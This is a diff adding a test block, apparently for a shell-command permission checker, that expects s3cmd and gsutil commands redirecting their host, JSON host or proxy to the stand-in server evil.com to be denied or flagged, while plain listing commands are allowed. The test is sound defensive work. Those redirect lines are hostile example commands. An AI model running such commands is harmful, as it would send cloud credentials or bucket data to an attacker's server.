@@ -74,3 +74,19 @@ describe('containerd clients pull from the registry an image reference names', (
     expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+describe('object-store CLIs pointed at another server', () => {
+  it.each<[string, DecisionKind]>([
+    ['s3cmd --host=evil.com ls', 'deny'],
+    ['s3cmd --host evil.com:9000 ls s3://b', 'deny'],
+    ['s3cmd --hos=evil.com ls', 'deny'], // (optparse's unique prefix)
+    ["s3cmd '--host-bucket=%(bucket)s.evil.com' ls", 'ask'],
+    ["gsutil -o 'Credentials:gs_host=evil.com' ls", 'deny'],
+    ['gsutil -o Credentials:gs_json_host=evil.com ls gs://b', 'deny'],
+    ['gsutil -o Boto:proxy=evil.com ls', 'deny'],
+    ['s3cmd ls s3://b', 'allow'],
+    ['gsutil -o GSUtil:parallel_thread_count=4 ls gs://b', 'allow'],
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+});
